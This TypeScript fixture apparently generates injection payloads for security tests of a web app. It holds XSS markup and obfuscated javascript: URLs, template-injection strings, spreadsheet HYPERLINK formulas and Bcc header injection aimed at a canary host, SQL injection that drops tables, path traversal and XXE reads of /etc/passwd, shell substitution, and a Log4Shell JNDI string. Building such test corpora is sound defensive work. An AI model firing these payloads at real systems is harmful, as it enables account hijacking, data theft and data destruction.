/** Runs `trap` where it is run as a script; each payload brings its own number, so that the one that ran is known. */
const code = (n: number): string => `trap(${n})`;
/** A host that nothing may ask. */
export const canaryHost = 'canary.invalid';

type Made = (js: string) => string;

/** Markup that runs something, or asks for something, as soon as it stands in a page. */
const markup: readonly Made[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror=${js}>`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text y=9>x</text></a></svg>`,
  (js) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${js}&gt;">`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<details open ontoggle=${js}>x</details>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<video><source onerror=${js}></video>`,
  (js) => `<audio src=x onerror=${js}></audio>`,
  (js) => `<body onload=${js}>`,
  (js) => `<marquee onstart=${js}>x</marquee>`,
  (js) => `<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart=${js}>x</b>`,
  (js) => `<form action="javascript:${js}"><button autofocus>x</button></form>`,
  (js) => `<a href="javascript:${js}" autofocus onfocus=${js}>x</a>`,
  (js) => `<template shadowrootmode=open><img src=x onerror=${js}></template>`,
  () => `<link rel=stylesheet href=//${canaryHost}/a>`,
  () => `<style>@import url(//${canaryHost}/b)</style>`,
  () => `<meta http-equiv=refresh content="0;url=//${canaryHost}/c">`,
  () => `<base href=//${canaryHost}/>`,
  () => `<img srcset=//${canaryHost}/d>`,
  (js) => `<img/src=x\tonerror\n=\n${js}//`,
  (js) => `<IMG SRC=x OnErRoR="${js}">`,
  (js) => `&lt;img src=x onerror=${js}&gt;`,
];

/** What ends the place that the text was put into. */
const endings = [
  '',
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  ']]>',
  '</select>',
  '`>',
  '</noscript>',
  '</template>',
  '\\">',
];

/** Ends of attributes that go on as attributes. */
const attributes: readonly Made[] = [
  (js) => `" onfocus="${js}" autofocus x="`,
  (js) => `' onfocus='${js}' autofocus x='`,
  (js) => ` onfocus=${js} autofocus x=`,
  (js) => `" style="animation:k" onanimationstart="${js}`,
  (js) => `"/onmouseover="${js}`,
  (js) => `\u0022 onerror=${js} src=x`,
  (js) => `&quot; onfocus=&quot;${js}&quot; autofocus`,
  (js) => `“ onfocus=“${js}“ autofocus`,
  () => `" style="background:url(//${canaryHost}/e)`,
  () => `;background:url(//${canaryHost}/f);`,
  () => `}*{background:url(//${canaryHost}/g)}`,
];

/** Addresses that no link, frame or picture may carry. */
const addresses: readonly Made[] = [
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => ` javascript:${js}`,
  (js) => `\u0001javascript:${js}`,
  (js) => `\u0000javascript:${js}`,
  (js) => `java\tscript:${js}`,
  (js) => `java\nscript:${js}`,
  (js) => `java\r\nscript:${js}`,
  (js) => `java\u0000script:${js}`,
  (js) => `javascript\t:${js}`,
  (js) => `java&#115;cript:${js}`,
  (js) => `&#x6A;avascript:${js}`,
  (js) => `javascript&colon;${js}`,
  (js) => `java&Tab;script:${js}`,
  (js) => `%6aavascript:${js}`,
  (js) => `\\u006aavascript:${js}`,
  (js) => `\u00a0javascript:${js}`,
  (js) => `\ufeffjavascript:${js}`,
  (js) => `ｊavascript:${js}`,
  (js) => `javascript:/*https://charity.example*/${js}`,
  (js) => `javascript://charity.example/%0a${js}`,
  (js) => `https://charity.example/javascript:${js}`,
  (js) => `vbscript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `DATA:text/html;charset=utf-8,<script>parent.${js}</script>`,
  (js) => `data:image/svg+xml,<svg onload="${js}" xmlns="http://www.w3.org/2000/svg"/>`,
  (js) => `blob:https://charity.example/${js}`,
  (js) => `view-source:javascript:${js}`,
  () => `//${canaryHost}/h`,
  () => `\\\\${canaryHost}\\i`,
  () => `/\t/${canaryHost}/j`,
  () => `https://charity.example@${canaryHost}/k`,
  () => `https:${canaryHost}/l`,
  () => `file:///etc/passwd`,
];

/** Places that a template would fill in, in one language of templates or another. */
const templates: readonly Made[] = [
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}}`,
  (js) => `#{${js}}`,
  (js) => `<%= ${js} %>`,
  (js) => `{%import os%}{{7*7}}${js}`,
  (js) => `*{${js}}`,
  (js) => `@{${js}}`,
  (js) => `{{{${js}}}}`,
  (js) => `[[${js}]]`,
  (js) => `{title}{organisation}{name}{label}${js}`,
  (js) => `$&$1$\`$'${js}`,
  (js) => `{{recipient.name}}{{writer.name|${js}}}`,
  (js) => `%{${js}}`,
  (js) => `<!--#exec cmd="${js}"-->`,
];

const cells = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', ' =', '"=', "'=", ';=', ',=', '=-+'].map(
  (start) => (): string => `${start}HYPERLINK("https://${canaryHost}/m?"&A1,"x")`,
);

/** Lines that would be headers, or the end of them. */
const headers = ['\r\n', '\n', '\r', '\u2028', '\u0085', '\v', '%0d%0a', '\\r\\n', '=0D=0A', '=?utf-8?Q?=0D=0A?='].flatMap((line) => [
  (): string => `x${line}Bcc: all@${canaryHost}`,
  (): string => `x${line}${line}<script>trap(0)</script>`,
]);
const receivers = [
  `<all@${canaryHost}>, a@b.example`,
  `x" <all@${canaryHost}>`,
  `a, b@${canaryHost}; c`,
  `=?utf-8?Q?a=40${canaryHost}?=`,
].map((text) => (): string => text);

const others: readonly Made[] = [
  () => `' OR '1'='1`,
  () => `'; DROP TABLE signature; --`,
  () => `") UNION SELECT email FROM signature --`,
  () => `1; ATTACH DATABASE '/tmp/x' AS x`,
  () => `\\'; DELETE FROM outbox; /*`,
  () => '__proto__',
  () => 'constructor.prototype.polluted',
  () => '{"__proto__":{"polluted":true}}',
  () => '../../../etc/passwd',
  () => '%2e%2e%2fetc%2fpasswd',
  () => '$(touch x)`touch x`|touch x',
  () => '${jndi:ldap://canary.invalid/a}',
  (js) => `\u202e>tpircs/<${js}>tpircs<`,
  (js) => `<\u0000script>${js}</script>`,
  (js) => `<scr\u200bipt>${js}</scr\u200bipt>`,
  (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
  (js) => `%3Cscript%3E${js}%3C/script%3E`,
  (js) => `\u00bcscript\u00be${js}\u00bc/script\u00be`,
  (js) => `＜script＞${js}＜/script＞`,
  (js) => `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;${js}</x>`,
  (js) => `<?xml-stylesheet href="javascript:${js}"?>`,
  () => `[link](javascript:trap(0)) ![x](//${canaryHost}/n)`,
  () => `<a href="//${canaryHost}/o" ping="//${canaryHost}/p">x</a>`,
];

const made: readonly Made[] = [
  ...endings.flatMap((end) =>
    markup.map(
      (make): Made =>
        (js) =>
          end + make(js),
    ),
  ),
  ...attributes,
  ...addresses,
  ...templates,
  ...cells,
  ...headers,
  ...receivers,
  ...others,
];

/** Texts that try to become something else: scripts, addresses, headers, formulas, queries. Each once. */
export const payloads: readonly string[] = [...new Set(made.map((make, n) => make(code(n))))];
